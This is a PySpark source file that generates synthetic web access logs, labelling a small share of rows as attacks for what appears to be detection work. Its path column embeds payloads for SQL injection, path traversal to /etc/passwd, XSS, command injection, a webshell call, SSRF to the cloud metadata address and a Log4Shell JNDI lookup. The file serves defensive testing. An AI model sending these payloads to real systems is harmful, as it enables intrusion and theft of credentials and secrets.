"""Access-log events made from the provided ``events`` and ``pages`` tables."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..operators.parse import build_message, status_level
from ..schema import EVENT_FIELDS

# The select list reads the same in Spark SQL and other engines.
ACCESS_LOG_COLUMNS = """
event_id, ts AS event_ts, concat('edge-0', CAST(event_id % 4 + 1 AS VARCHAR(20))) AS host,
 concat('10.0.', CAST(user_id % 4 AS VARCHAR(20)), '.', CAST(user_id % 250 + 2 AS VARCHAR(20))) AS remote_addr,
 CASE WHEN user_id % 6 = 0 THEN concat('user', CAST(user_id AS VARCHAR(20))) END AS remote_user,
 CASE WHEN event_type IN ('signup','purchase') THEN 'POST' WHEN event_type = 'error' AND event_id % 2 = 0 THEN 'DELETE' ELSE 'GET' END AS method,
 CASE WHEN event_id % 20 <> 0 THEN regexp_extract(url, '^https?://[^/]+(/[^#]*)', 1)
      WHEN event_id % 160 = 0 THEN '/search?q=1%27%20UNION%20SELECT%20pw'
      WHEN event_id % 160 = 20 THEN '/../../etc/passwd'
      WHEN event_id % 160 = 40 THEN '/page?x=<script>alert(1)</script>'
      WHEN event_id % 160 = 60 THEN '/ping?h=$(id)'
      WHEN event_id % 160 = 80 THEN '/uploads/cmd.php?cmd=id'
      WHEN event_id % 160 = 100 THEN '/fetch?url=http://169.254.169.254/meta'
      WHEN event_id % 160 = 120 THEN '/s?q=${jndi:ldap://x.test/a}'
      ELSE '/.env' END AS path,
 'HTTP/1.1' AS protocol,
 CASE WHEN event_type = 'error' AND event_id % 4 = 0 THEN 401 WHEN event_type = 'error' AND event_id % 4 = 1 THEN 404
      WHEN event_type = 'error' AND event_id % 4 = 2 THEN 405 WHEN event_type = 'error' THEN 500 WHEN event_id % 10 = 3 THEN 301 ELSE 200 END AS status,
 CAST(floor(value * 100) AS BIGINT) AS bytes_sent,
 CASE WHEN event_id % 3 = 0 THEN url END AS referrer,
 CASE WHEN event_id % 40 = 0 THEN 'sqlmap/1.7.2' WHEN event_id % 50 = 7 THEN 'ExampleBot/1.0' WHEN event_id % 11 = 0 THEN CAST(NULL AS VARCHAR(20)) ELSE 'Mozilla/5.0 (X11; Linux x86_64)' END AS user_agent,
 value / 100 AS request_time,
 CASE WHEN event_id % 20 <> 0 THEN 'clean' WHEN event_id % 160 = 0 THEN 'attack:sqli' WHEN event_id % 160 IN (20, 100) THEN 'attack:path_or_ssrf'
      WHEN event_id % 160 = 40 THEN 'attack:xss' WHEN event_id % 160 = 60 THEN 'attack:command_injection' WHEN event_id % 160 = 80 THEN 'attack:webshell'
      WHEN event_id % 160 = 120 THEN 'attack:log4shell' ELSE 'attack:scanner' END AS label
"""
# Join of the two tables for engines other than Spark.
ACCESS_LOG_SQL = (
    f"SELECT {ACCESS_LOG_COLUMNS} FROM events e CROSS JOIN (SELECT count(*) AS n FROM pages) c "
    "JOIN pages p ON p.page_id = e.event_id % c.n"
)


def access_log_view(events: DataFrame, pages: DataFrame) -> DataFrame:
    """The access log over given tables; ``events`` may be a stream.

    The page number is computed before the join, so that the join stays an
    equi-join on one column whatever filters are pushed towards it.
    """
    count = pages.agg(F.count("*").alias("_pages"))
    numbered = events.join(F.broadcast(count)).withColumn("_page", F.col("event_id") % F.col("_pages"))
    urls = pages.select(F.col("page_id").alias("_page"), "url")
    joined = numbered.join(urls, "_page")
    return events.sparkSession.sql(f"SELECT {ACCESS_LOG_COLUMNS.replace('{', '{{').replace('}', '}}')} FROM {{log}}", log=joined)


def spread(df: DataFrame, key: str) -> DataFrame:
    """A small input that sits in fewer splits than there are cores, shared out by key.

    A large input has more splits than cores and is left alone.
    """
    cores = df.sparkSession.sparkContext.defaultParallelism
    return df if df.rdd.getNumPartitions() >= cores else df.repartition(cores, key)


def access_log_events(spark: SparkSession, folder: str) -> DataFrame:
    """``event_id``, ``label`` and the event columns for the tables in a folder."""
    events = spark.read.parquet(f"{folder}/events.parquet")
    pages = spark.read.parquet(f"{folder}/pages.parquet")
    columns = ["event_id", "ts", "user_id", "event_type", "value"]
    return as_events(access_log_view(spread(events.select(columns), "event_id"), pages))


def as_events(log: DataFrame) -> DataFrame:
    """The event layout; times of the log are UTC."""
    given = {
        "event_ts": F.timestamp_micros(
            F.timestamp_diff("MICROSECOND", F.expr("timestamp_ntz '1970-01-01 00:00:00'"), F.col("event_ts"))
        ),
        "event_local": F.col("event_ts"),
        "utc_offset": F.lit("+00:00"),
        "message": build_message(F.col("method"), F.col("path"), F.col("protocol"), F.lit("")),
        "level": status_level(F.col("status")),
        "attributes": F.parse_json(F.lit("{}")),
    }
    columns = []
    for name, kind in EVENT_FIELDS:
        column = given.get(name, F.col(name) if name in log.columns else F.lit(None))
        columns.append(column.cast(kind).alias(name))
    return log.select("event_id", "label", *columns)
